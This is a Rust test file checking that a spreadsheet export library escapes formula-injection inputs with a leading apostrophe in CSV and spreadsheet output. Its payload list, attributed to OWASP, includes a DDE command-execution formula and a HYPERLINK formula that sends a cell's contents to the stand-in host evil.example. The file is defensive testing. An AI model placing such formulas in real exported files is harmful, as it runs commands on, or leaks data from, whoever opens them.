//! What a spreadsheet would run is not left to run.

use proptest::prelude::*;
use sheets::{Cell, Format, guarded, unguarded};

use crate::{text, written};

/// From OWASP's page on the attack, and what else begins like it.
const ATTACKS: [&str; 8] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1)",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
];

#[test]
fn every_beginning_of_a_formula_gets_an_apostrophe_in_csv_and_in_spreadsheets() {
    for attack in ATTACKS {
        assert_eq!(guarded(attack), format!("'{attack}"));
        assert_eq!(unguarded(&guarded(attack)), attack);
        let csv = String::from_utf8(written(Format::Csv, &[[text(attack), Cell::Nothing]])).unwrap();
        let cell = csv.split_once("\r\n").unwrap().1.trim_start_matches('"');
        assert!(cell.starts_with('\''), "{csv:?}");
    }
}

#[test]
fn other_texts_stay_as_they_are() {
    for plain in ["O'Brien", "'quoted'", "a=b", "", "١٢٣", "'"] {
        assert_eq!(guarded(plain), plain);
        assert_eq!(unguarded(plain), plain);
    }
}

proptest! {
    #[test]
    fn what_was_guarded_comes_back_as_it_went(text in "[=+@\\t'a-]{0,6}") {
        // A text that looks guarded by itself is the one that cannot be told apart.
        prop_assume!(!text.starts_with('\''));
        let guard = guarded(&text).into_owned();
        prop_assert_eq!(unguarded(&guard), text);
    }
}
